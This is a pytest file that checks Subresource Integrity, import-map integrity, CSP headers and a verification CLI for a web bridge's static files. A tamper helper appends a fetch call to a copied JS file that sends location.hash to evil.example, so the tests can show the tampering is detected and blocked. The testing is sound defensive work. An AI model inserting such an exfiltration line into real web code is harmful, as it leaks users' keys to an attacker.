"""A page whose code can be verified: Subresource Integrity on every entry tag, an import
map whose ``integrity`` covers every module, and ``cloudtab-verify`` against a live bridge
(untouched: passes; a tampered static file: caught, and refused by Chromium)."""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from playwright.sync_api import expect

from cloudtab_verify import cli, manifest
from tests.bridge.fake_relay import FakeRelay
from tests.bridge.page_helpers import new_page, phone_context
from web_bridge import integrity

ROOT = Path(__file__).resolve().parents[2]
MANIFEST = ROOT / "docs" / "static-manifest.json"


def _sri(body: bytes) -> str:
    return "sha256-" + base64.b64encode(hashlib.sha256(body).digest()).decode()


@pytest.mark.parametrize("path", ["/", "/s/demo", "/j/ABCDEFGHJKMNPQRSTVWXYZ234"])
def test_every_entry_tag_carries_the_integrity_of_the_file_served(
    client: FlaskClient, fake_relay: FakeRelay, path: str
) -> None:
    fake_relay.add_shop("demo")
    response = client.get(path)
    assert response.status_code == 200, response.status_code
    refs = cli.parse_page(response.get_data(as_text=True))
    assert len(refs.entries) >= 2  # the style sheet and the entry module
    for src, value in refs.entries:
        assert value == _sri(client.get(src).get_data()), src
    inline = [(kind, text) for kind, text in refs.inline_scripts]
    assert [kind for kind, _ in inline] == ["importmap"]
    text = inline[0][1]
    modules = json.loads(text)["integrity"]
    served = {
        f"/static/{name}"
        for name in manifest.file_digests(ROOT / "web_bridge" / "static")
        if name.endswith((".js", ".mjs"))
    }
    assert set(modules) == served
    for url, value in modules.items():
        assert value == _sri(client.get(url).get_data()), url
    csp = response.headers["Content-Security-Policy"]
    assert f"script-src-elem 'self' '{_sri(text.encode())}'" in csp
    assert "unsafe" not in csp


def _verify(url: str, capsys: Any) -> tuple[int, str]:
    code = cli.main([url, "--manifest", str(MANIFEST)])
    return code, capsys.readouterr().out


def _tamper(bridge: Any, tmp_path: Path) -> Path:
    copy = tmp_path / "static"
    shutil.copytree(ROOT / "web_bridge" / "static", copy)
    target = copy / "js" / "format.js"
    target.write_text(target.read_text() + "\nfetch('https://evil.example/?' + location.hash);\n")
    bridge.app.static_folder = str(copy)
    return copy


def test_verify_passes_on_an_untouched_live_bridge(bridge: Any, kiosk: Any, chromium_browser: Any, capsys: Any) -> None:
    url = f"{bridge.url}/s/{kiosk.slug}"
    code, out = _verify(url, capsys)
    assert code == 0, out
    for name in ("css/app.css", "js/upload.js", "js/format.js", "js/hpke.js", "vendor/pdfjs-5.7.284/pdf.min.mjs"):
        assert f"ok       {name}\n" in out
    assert "DIFFERS" not in out
    with phone_context(chromium_browser, "360x740") as context:
        page = new_page(context)
        page.goto(f"{url}#k={kiosk.key_param}")
        expect(page.locator("#app")).to_have_attribute("data-ready", "yes")
        assert page.evaluate("window.__cspViolations") == []
        assert page.problems == []


def test_a_tampered_static_file_is_caught_by_verify_and_refused_by_chromium(
    bridge: Any, kiosk: Any, chromium_browser: Any, capsys: Any, tmp_path: Path
) -> None:
    _tamper(bridge, tmp_path)  # served bytes change; the page still names the release's digests
    url = f"{bridge.url}/s/{kiosk.slug}"
    code, out = _verify(url, capsys)
    assert code == 1, out
    assert "DIFFERS  js/format.js: served SHA-256" in out
    assert out.count("DIFFERS") == 1
    with phone_context(chromium_browser, "360x740") as context:
        page = new_page(context)
        page.goto(f"{url}#k={kiosk.key_param}")
        page.wait_for_timeout(1500)  # give the module graph its chance to load
        assert page.locator("#app").get_attribute("data-ready") != "yes"
        assert any("integrity" in problem and "format.js" in problem for problem in page.problems), page.problems


def test_a_tampered_release_with_matching_integrity_is_still_caught(
    bridge: Any, kiosk: Any, capsys: Any, tmp_path: Path
) -> None:
    _tamper(bridge, tmp_path)
    integrity.init_app(bridge.app)  # the operator recomputes the page's digests too
    code, out = _verify(f"{bridge.url}/s/{kiosk.slug}", capsys)
    assert code == 1, out
    assert "DIFFERS  js/format.js: the import map's integrity is not the release's" in out


def _release_repo(tmp_path: Path, manifests: list[tuple[str, bytes]]) -> Path:
    """A git checkout whose commits hold ``manifests`` (tag, bytes) as docs/static-manifest.json."""
    repo = tmp_path / "checkout"
    (repo / "docs").mkdir(parents=True)
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.org"]
    subprocess.run([*git, "init", "-q"], check=True)
    for tag, data in manifests:
        (repo / "docs" / "static-manifest.json").write_bytes(data)
        subprocess.run([*git, "add", "-A"], check=True)
        subprocess.run([*git, "commit", "-qm", f"release {tag}"], check=True)
        subprocess.run([*git, "tag", tag], check=True)
    return repo


def test_verify_finds_the_release_the_page_names_in_a_checkout(
    bridge: Any, kiosk: Any, capsys: Any, tmp_path: Path
) -> None:
    current = MANIFEST.read_bytes()
    older = json.loads(current)
    older["files"]["js/format.js"] = "0" * 64
    repo = _release_repo(tmp_path, [("v0.0.9", manifest.dumps(older).encode()), ("v0.1.0", current)])
    url = f"{bridge.url}/s/{kiosk.slug}"
    refs = cli.parse_page(cli.fetch(url).decode())
    assert refs.static_release == manifest.release_digest(current) and refs.version
    assert cli.find_release(repo, refs.static_release) is not None
    assert cli.find_release(repo, "f" * 64) is None

    code = cli.main([url, "--repo", str(repo)])
    out = capsys.readouterr().out
    assert code == 0, out
    assert "release  " in out and "release v0.1.0" in out and "DIFFERS" not in out

    # A tampered file under the same release is named; a page re-issued with the
    # tampered files' digests names a release the checkout does not have.
    _tamper(bridge, tmp_path)
    code = cli.main([url, "--repo", str(repo)])
    out = capsys.readouterr().out
    assert code == 1 and "DIFFERS  js/format.js: served SHA-256" in out, out
    integrity.init_app(bridge.app)
    code = cli.main([url, "--repo", str(repo)])
    out = capsys.readouterr().out
    assert code == 1 and "which no commit of" in out, out
